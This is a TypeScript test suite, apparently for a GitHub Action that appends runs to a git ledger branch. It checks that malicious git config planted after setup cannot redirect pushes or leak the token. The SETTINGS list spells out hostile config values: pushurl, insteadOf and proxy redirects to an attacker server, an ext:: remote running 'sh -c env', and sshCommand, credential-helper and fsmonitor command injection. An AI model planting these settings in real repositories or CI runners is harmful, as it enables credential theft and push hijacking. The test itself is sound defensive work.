import { appendFile, mkdir, readdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type Host, openHost } from '../../src/actions/host.js';
import { DAY, idAt, runFile } from '../ledger/fixtures.js';
import { bareEnvironment } from '../support/exec.js';
import { GitServer } from '../support/git-server.js';
import { GitHubWorld } from '../support/github-world.js';
import { runnerVariables } from '../support/runner/environment.js';
import type { Job } from '../support/runner.js';

const INPUTS = {
  'ledger-branch': 'lineage',
  'ledger-repository': '',
  policy: '',
  'job-status': 'success',
  matrix: 'null',
};

let world: GitHubWorld;
/** Has the same repository and takes the same tokens. */
let evil: GitServer;
let made = 0;

beforeAll(async () => {
  world = await GitHubWorld.start();
  evil = await GitServer.start({ tokens: world.tokens });
  await evil.createRepo(world.repository);
});

afterEach(() => {
  evil.requests.length = 0;
  expect(world.github.violations).toEqual([]);
});

afterAll(async () => {
  await Promise.all([world.close(), evil.close()]);
});

interface Place {
  host: Host;
  env: Record<string, string>;
  home: string;
  /** Where what the attacker gets to know is written. */
  loot: string;
}

async function place(env: Record<string, string> = {}): Promise<Place> {
  const job: Job = await world.job(await world.push(), { checkout: 'none', artifacts: false });
  const home = join(job.options.root, 'home');
  const loot = join(job.options.root, 'loot');
  await mkdir(loot);
  const eventPath = join(job.temp, '_github_workflow', 'event.json');
  const all = {
    ...bareEnvironment(home),
    ...runnerVariables(job.options, { temp: job.temp, home, eventPath }),
    ...env,
  };
  const host = await openHost(all, { ...INPUTS, token: job.options.token });
  return { host, env: all, home, loot };
}

interface Attack {
  evil: string;
  url: string;
  loot: string;
}

/** Settings that lead a push elsewhere or tell the token. */
const SETTINGS: readonly (readonly [name: string, text: (attack: Attack) => string])[] = [
  ['pushurl', (at) => `[remote "lineage-ledger"]\n\tpushurl = ${at.evil}\n`],
  ['pushInsteadOf', (at) => `[url "${at.evil}"]\n\tpushInsteadOf = lineage-ledger:\n`],
  ['insteadOf', (at) => `[url "${at.evil}"]\n\tinsteadOf = lineage-ledger:\n\tinsteadOf = ${at.url}\n`],
  ['http.proxy', (at) => `[http]\n\tproxy = ${new URL(at.evil).origin}\n`],
  ['http.<url>.proxy', (at) => `[http "${at.url}"]\n\tproxy = ${new URL(at.evil).origin}\n`],
  ['remote.proxy', (at) => `[remote "lineage-ledger"]\n\tproxy = ${new URL(at.evil).origin}\n`],
  [
    'protocol.ext',
    ({ loot }) =>
      `[protocol "ext"]\n\tallow = always\n[remote "lineage-ledger"]\n\tpushurl = "ext::sh -c env%>${loot}/x"\n`,
  ],
  ['trace2', ({ loot }) => `[trace2]\n\teventTarget = ${loot}/trace\n\tenvVars = GIT_CONFIG_PARAMETERS\n`],
  [
    'ssh and helpers',
    ({ loot }) =>
      `[core]\n\tsshCommand = touch '${loot}/ssh'; :\n[credential]\n\thelper = "!touch '${loot}/helper'; :"\n` +
      '[remote "lineage-ledger"]\n\tpushurl = ssh://git@127.0.0.1/x\n',
  ],
  [
    'http.sslVerify and cookies',
    ({ loot }) => `[http]\n\tsslVerify = false\n\tcookieFile = ${loot}/jar\n\tsaveCookies = true\n`,
  ],
  ['hooks', ({ loot }) => `[core]\n\thooksPath = ${loot}\n\tfsmonitor = touch ${loot}/monitor\n`],
];

/** Puts a text in the configuration of every bare repository below a folder. @returns how many there are */
async function plantInRepositories(folder: string, text: string): Promise<number> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const heads = entries.filter((entry) => entry.isFile() && entry.name === 'HEAD');
  for (const head of heads) await appendFile(join(head.parentPath, 'config'), text);
  return heads.length;
}

async function expectPushed({ host, loot }: Place, path: string): Promise<void> {
  expect(evil.requests).toEqual([]);
  expect(await readdir(loot)).toEqual([]);
  expect(await world.repo.listFiles('lineage')).toContain(path);
  expect(host.outside.program).toMatch(/git/);
}

async function runOfNow() {
  made += 1;
  const id = idAt(DAY + made, made);
  return { run_id: id, files: [await runFile(id)], message: { subject: 'run', trailers: [] } };
}

describe('what is planted after the begin leads no push elsewhere', () => {
  test.each(SETTINGS)('%s', async (_, text) => {
    const at = await place();
    await at.host.ledger.checkWritable();
    await at.host.ledger.view();
    const attack = { evil: evil.url(world.repository), url: world.git.url(world.repository), loot: at.loot };
    const planted = text(attack);
    expect(await plantInRepositories(at.host.temp, planted)).toBeGreaterThan(0);
    await writeFile(join(at.home, 'included'), planted);
    await writeFile(join(at.home, '.gitconfig'), `[include]\n\tpath = included\n${planted}`);
    await mkdir(join(at.home, '.config', 'git'), { recursive: true });
    await writeFile(join(at.home, '.config', 'git', 'config'), planted);
    const run = await runOfNow();
    await at.host.openLedger().append([run]);
    await expectPushed(at, run.files[0]?.path ?? '');
  });
});
